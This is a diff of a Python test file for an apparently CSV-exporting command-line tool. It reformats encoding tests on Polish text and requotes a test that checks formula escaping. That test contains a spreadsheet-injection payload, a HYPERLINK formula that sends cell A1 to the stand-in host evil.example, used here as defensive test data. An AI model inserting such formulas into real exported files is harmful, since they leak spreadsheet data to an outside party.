@@ -28,7 +28,12 @@ def test_delimiter(line, expected):
 
 @pytest.mark.parametrize(
     "payload",
-    ["Imię;Łódź\n".encode("utf-8-sig"), "Imię;Łódź\n".encode(), "Imię;Łódź\n".encode("cp1250"), "Imię;Łódź\n".encode("utf-16")],
+    [
+        "Imię;Łódź\n".encode("utf-8-sig"),
+        "Imię;Łódź\n".encode(),
+        "Imię;Łódź\n".encode("cp1250"),
+        "Imię;Łódź\n".encode("utf-16"),
+    ],
 )
 def test_encodings(payload):
     assert decode_text(payload, "lista.csv") == "Imię;Łódź\n"
@@ -67,5 +72,5 @@ def test_report_units_csv_escapes_a_unit_id_that_is_a_formula(somflow_workspace,
     result = somflow_cli("report", "units", "--csv")
     assert result.exit_code == 0, result.output
     units = [row[0] for row in csv.reader(io.StringIO(result.output))][1:]
-    assert "'=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")" in units
+    assert '\'=HYPERLINK("http://evil.example/?"&A1;"x")' in units
     assert not any(u.startswith(csvfile.FORMULA_START) for u in units)
